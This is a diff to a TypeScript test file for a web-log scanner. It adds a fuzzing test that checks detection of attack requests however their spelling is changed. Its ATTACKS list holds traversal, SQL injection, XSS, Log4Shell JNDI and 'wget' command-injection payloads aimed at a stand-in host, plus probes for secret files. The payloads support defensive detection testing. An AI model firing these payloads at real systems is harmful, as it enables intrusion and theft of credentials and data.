@@ -1,4 +1,5 @@
 /** Which requests carry a signal, and which do not. */
+import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { scanLog } from '../../support/scanned-log.ts';
 
@@ -8,38 +9,66 @@ function judged(target: string, { agent = 'Mozilla/5.0', method = 'GET', status 
   return { signals, bot };
 }
 
+const ATTACKS: readonly (readonly [target: string, signal: string])[] = [
+  ['/a/../../etc/passwd', 't1/traversal'],
+  ['/cgi?f=..%2f..%2fetc%2fpasswd', 't1/traversal'],
+  ['/icons/.%2e/%2e%2e/x', 't1/traversal'],
+  ['/a/%252e%252e%252f', 't1/traversal'],
+  ["/a?id=1'+or+'1'='1", 't1/sql-injection'],
+  ['/a?id=1%27%20OR%20%271%27%3D%271', 't1/sql-injection'],
+  ['/a?id=1+UNION+ALL+SELECT+1,2', 't1/sql-injection'],
+  ['/a?id=1%20union%20select%20x', 't1/sql-injection'],
+  ['/a?id=sleep(5)', 't1/sql-injection'],
+  ['/a?id=if(now()=sysdate(),sleep(15),0)', 't1/sql-injection'],
+  ["/a?id=1%3BWAITFOR%20DELAY%20'0:0:5'", 't1/sql-injection'],
+  ['/a?q=<script>alert(1)</script>', 't1/script-injection'],
+  ['/a?q=%3Csvg/onload=alert(1)%3E', 't1/script-injection'],
+  ['/a?q=%253Cscript%253E', 't1/script-injection'],
+  ['/a?x=${jndi:ldap://e.example/a}', 't1/code-injection'],
+  ['/a?x=%24%7Bjndi:ldap://e.example/a%7D', 't1/code-injection'],
+  ['/a?x=1;wget+http://e.example/x', 't1/code-injection'],
+  ['/index.php?s=/index/think/invokefunction', 't1/code-injection'],
+  ['/.env', 't1/scanner'],
+  ['/app/.git/config', 't1/scanner'],
+  ['/%2egit/config', 't1/scanner'],
+  ['/wp-login.php', 't1/scanner'],
+  ['/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', 't1/scanner'],
+  ['/backup.sql.gz', 't1/scanner'],
+  ['/phpMyAdmin/index.php', 't1/scanner'],
+  ['/actuator/health', 't1/scanner'],
+  ['/manager/html', 't1/scanner'],
+  ['/server-status', 't1/scanner'],
+];
+
+/** One character in the other case or as its escape; what is escaped already stays, and so do `/` and `?` that make the target. */
+function respell(target: string, [place, how]: readonly [number, string]): string {
+  const at = place % target.length;
+  const letter = target[at] ?? '';
+  if (at === 0 || letter === '?' || target.slice(Math.max(0, at - 4), at + 1).includes('%')) return target;
+  const isUpper = letter === letter.toUpperCase();
+  const other = isUpper ? letter.toLowerCase() : letter.toUpperCase();
+  const escape = `%${letter.charCodeAt(0).toString(16).padStart(2, '0')}`;
+  return target.slice(0, at) + (how === 'case' ? other : escape) + target.slice(at + 1);
+}
+
 describe('attacks stay visible when the query is dropped', () => {
-  it.each([
-    ['/a/../../etc/passwd', 't1/traversal'],
-    ['/cgi?f=..%2f..%2fetc%2fpasswd', 't1/traversal'],
-    ['/icons/.%2e/%2e%2e/x', 't1/traversal'],
-    ['/a/%252e%252e%252f', 't1/traversal'],
-    ["/a?id=1'+or+'1'='1", 't1/sql-injection'],
-    ['/a?id=1%27%20OR%20%271%27%3D%271', 't1/sql-injection'],
-    ['/a?id=1+UNION+ALL+SELECT+1,2', 't1/sql-injection'],
-    ['/a?id=1%20union%20select%20x', 't1/sql-injection'],
-    ['/a?id=sleep(5)', 't1/sql-injection'],
-    ['/a?id=if(now()=sysdate(),sleep(15),0)', 't1/sql-injection'],
-    ["/a?id=1%3BWAITFOR%20DELAY%20'0:0:5'", 't1/sql-injection'],
-    ['/a?q=<script>alert(1)</script>', 't1/script-injection'],
-    ['/a?q=%3Csvg/onload=alert(1)%3E', 't1/script-injection'],
-    ['/a?q=%253Cscript%253E', 't1/script-injection'],
-    ['/a?x=${jndi:ldap://e.example/a}', 't1/code-injection'],
-    ['/a?x=%24%7Bjndi:ldap://e.example/a%7D', 't1/code-injection'],
-    ['/a?x=1;wget+http://e.example/x', 't1/code-injection'],
-    ['/index.php?s=/index/think/invokefunction', 't1/code-injection'],
-    ['/.env', 't1/scanner'],
-    ['/app/.git/config', 't1/scanner'],
-    ['/%2egit/config', 't1/scanner'],
-    ['/wp-login.php', 't1/scanner'],
-    ['/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', 't1/scanner'],
-    ['/backup.sql.gz', 't1/scanner'],
-    ['/phpMyAdmin/index.php', 't1/scanner'],
-    ['/actuator/health', 't1/scanner'],
-    ['/manager/html', 't1/scanner'],
-    ['/server-status', 't1/scanner'],
-  ])('%s', (target, signal) => {
+  it.each(ATTACKS)('%s', (target, signal) => {
     expect(judged(target).signals).toContain(signal);
+  });
+
+  it('however they are spelt', () => {
+    const spelt = fc
+      .tuple(
+        fc.constantFrom(...ATTACKS),
+        fc.array(fc.tuple(fc.nat(80), fc.constantFrom('case', 'escape')), { maxLength: 12 }),
+      )
+      .map(([[target, signal], changes]) => ({ target: changes.reduce(respell, target), signal }));
+    fc.assert(
+      fc.property(spelt, ({ target, signal }) => {
+        expect(judged(target).signals).toContain(signal);
+      }),
+      { numRuns: 400 },
+    );
   });
 
   it('in the user agent and the referrer too', () => {
